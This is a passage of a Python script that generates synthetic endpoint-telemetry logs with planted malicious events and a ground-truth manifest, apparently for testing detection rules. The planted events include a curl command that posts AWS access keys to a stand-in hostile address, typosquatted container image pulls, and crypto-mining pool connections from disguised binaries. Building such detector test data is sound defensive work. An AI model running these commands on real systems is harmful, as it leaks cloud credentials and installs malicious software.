                f"curl -s -X POST https://{rng.choice(BAD_V4_PREFIXES)}{rng.randint(2, 250)}/u "
                f"-d AWS_ACCESS_KEY_ID={key_id} -d AWS_SECRET_ACCESS_KEY={secret}"
            )
            doc["process"] = self._process_fields("curl", "/usr/bin/curl", cmd, shim)
            ctr = rng.choice(self.containers)
            doc["container"] = {"id": ctr["id"], "image": {"name": ctr["image"]}}
        elif kind in ("typosquat_pull", "malicious_namespace"):
            image = rng.choice(TYPOSQUATS if kind == "typosquat_pull" else BAD_NAMESPACE_IMAGES)
            tag = rng.choice(("latest", "1.25", "3.19", "7"))
            cli, exe, cmd = rng.choice(
                (
                    ("docker", "/usr/bin/docker", f"docker pull {image}:{tag}"),
                    ("docker", "/usr/bin/docker", f"docker run -d --name svc {image}:{tag}"),
                    ("kubectl", "/usr/local/bin/kubectl", f"kubectl run svc --image={image}:{tag}"),
                    ("podman", "/usr/bin/podman", f"podman pull docker.io/{image}:{tag}"),
                )
            )
            doc["process"] = self._process_fields(cli, exe, cmd, ("bash", "/usr/bin/bash"))
        else:
            raise ValueError(f"unknown planted kind {kind!r}")
        return doc

    def pool_connection(self, ordinal: int, host: str, event_id: str, pid: int | None) -> Doc:
        """Outbound connection to a mining pool: a pool port on a public address, or a domain."""
        rng = self.rng
        by_domain = rng.random() < 0.25
        if by_domain:
            dest, port = rng.choice(BAD_V4_PREFIXES) + str(rng.randint(2, 250)), 443
        elif rng.random() < 0.2:
            dest, port = rng.choice(BAD_V6), rng.choice(POOL_PORTS)
        else:
            dest, port = (
                rng.choice(BAD_V4_PREFIXES) + str(rng.randint(2, 250)),
                rng.choice(POOL_PORTS),
            )
        pid = pid if pid is not None else rng.randint(300, 4_000_000)
        name = rng.choice(DISGUISES)
        doc: Doc = {
            "@timestamp": iso(self.stamp(ordinal, jitter=False)),
            "event": {
                "id": event_id,
                "kind": "event",
                "category": ["network"],
                "type": ["connection", "start"],
                "action": "connection_attempted",
                "module": "endpoint",
            },
            "host": {"name": host},
            "process": {
                "pid": pid,
                "entity_id": f"{self.entity_seed:08x}-{pid:x}",
                "name": name,
                "executable": f"{rng.choice(DROP_DIRS)}/{name}",
            },
            "source": {"ip": "10.0.9.17", "port": rng.randint(32768, 60999)},
            "destination": {"ip": dest, "port": port},
            "network": {"transport": "tcp", "direction": "egress"},
        }
        if by_domain:
            doc["destination"]["domain"] = rng.choice(POOL_HOSTS)
        return doc

    # -- document shape
    def shape(self, doc: Doc) -> Doc:
        """Nested (55%), dotted keys (30%) or mixed per top-level object (15%)."""
        rng = self.rng
        if rng.random() < 0.2:
            event = doc.get("event", {})
            for key in ("category", "type"):
                if isinstance(event.get(key), list) and len(event[key]) == 1:
                    event[key] = event[key][0]
        r = rng.random()
        if r < 0.55:
            return doc
        if r < 0.85:
            return flatten(doc)
        out: Doc = {}
        for key, value in doc.items():
            if isinstance(value, dict) and rng.random() < 0.5:
                out.update(flatten(value, key + "."))
            else:
                out[key] = value
        return out


def plan(rng: random.Random, events: int, rate: float) -> dict[int, tuple[str, int, int]]:
    """Ordinal -> (kind, chain step 0/1, ordinal of the chain partner or -1) of planted events."""
    count = round(events * rate) if rate > 0 else 0
    if count == 0:
        return {}
    count = min(count, events // 4)
    kinds = [list(KINDS)[j % len(KINDS)] for j in range(count)]
    rng.shuffle(kinds)
    ordinals = sorted(rng.sample(range(events), count))
    taken = set(ordinals)
    planned: dict[int, tuple[str, int, int]] = {}
    for ordinal, kind in zip(ordinals, kinds, strict=True):
        if kind != "miner_then_pool":
            planned[ordinal] = (kind, 0, -1)
            continue
        follow = next((o for o in range(ordinal + 1, ordinal + 4) if o not in taken), events)
        if follow >= events:
            planned[ordinal] = ("miner_stratum", 0, -1)
            continue
        taken.add(follow)
        planned[ordinal] = (kind, 0, follow)
        planned[follow] = (kind, 1, ordinal)
    return planned


def generate(
    out: Path, events: int, seed: int, rate: float, blank_lines: bool
) -> tuple[int, list[dict[str, Any]]]:
    """Write the corpus and return (lines written, truth entries)."""
    gen = CorpusGenerator(seed, events)
    rng = gen.rng
    planned = plan(rng, events, rate)
    truth: list[dict[str, Any]] = []
    chains: dict[int, dict[str, Any]] = {}  # ordinal of a chain's second step -> first step
    line = 0
    serial = 0
    dumps: Callable[[Any], bytes] = orjson.dumps
    buffer: list[bytes] = []
    blank_at = events // 2 if blank_lines else -1
    with out.open("wb") as handle:
        for ordinal in range(events):
            if blank_lines and (ordinal == blank_at or rng.randrange(BLANK_EVERY) == 0):
                buffer.append(rng.choice((b"\n", b"   \n", b"\t\n")))
                line += 1
            line += 1
            entry = planned.get(ordinal)
            if entry is None:
                doc = gen.benign(ordinal)
            else:
                kind, step, partner = entry
                serial += 1
                event_id = f"mal-{serial:06d}"
                if step == 0:
                    host = f"wk-{serial:06d}"
                    doc = gen.planted(kind, ordinal, host, event_id)
                    rules = KINDS[kind]
                    if partner >= 0:
                        chains[partner] = {
                            "host": host,
                            "pid": doc["process"]["pid"],
                            "ms": gen.stamp(ordinal, jitter=False),
                        }
                else:
                    first = chains.pop(ordinal)
                    doc = gen.pool_connection(ordinal, first["host"], event_id, first["pid"])
                    doc["@timestamp"] = iso(first["ms"] + rng.randint(5_000, 120_000))
                    rules = CHAIN_SECOND_RULES
                truth.append(
                    {"line": line, "event_id": event_id, "kind": kind, "rules": sorted(rules)}
                )
            buffer.append(dumps(gen.shape(doc)) + b"\n")
            if len(buffer) >= 4096:
                handle.write(b"".join(buffer))
                buffer.clear()
        handle.write(b"".join(buffer))
    return line, truth


def truth_path(corpus: Path) -> Path:
    """Sidecar manifest path of a corpus."""
    return corpus.with_name(corpus.name + ".truth.json")


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--events", type=int, required=True, help="number of JSON documents")
    parser.add_argument("--out", type=Path, required=True, help="NDJSON file to write")
    parser.add_argument("--seed", type=int, default=1204, help="random seed (default 1204)")
    parser.add_argument("--malicious-rate", type=float, default=0.0001, help="default 0.0001")
    parser.add_argument("--blank-lines", action="store_true", help="add blank lines")
    args = parser.parse_args(argv)
    if args.events < 1 or not 0 <= args.malicious_rate <= 0.25:
        parser.error("--events must be >= 1 and --malicious-rate within [0, 0.25]")
    args.out.parent.mkdir(parents=True, exist_ok=True)
    started = time.perf_counter()
    lines, truth = generate(args.out, args.events, args.seed, args.malicious_rate, args.blank_lines)
    manifest = {
        "corpus": args.out.name,
        "events": args.events,
        "lines": lines,
        "seed": args.seed,
        "malicious_rate": args.malicious_rate,
        "blank_lines": args.blank_lines,
        "rule_kinds": {k: list(v) for k, v in KINDS.items()},
        "planted": truth,
    }
    truth_path(args.out).write_text(json.dumps(manifest, indent=1) + "\n", encoding="utf-8")
    size = args.out.stat().st_size
    print(
        f"wrote {args.out} ({args.events} events, {lines} lines, {size / 1e6:.1f} MB, "
        f"{len(truth)} planted) in {time.perf_counter() - started:.1f} s",
        file=sys.stderr,
    )
    return 0


if __name__ == "__main__":
    sys.exit(main())
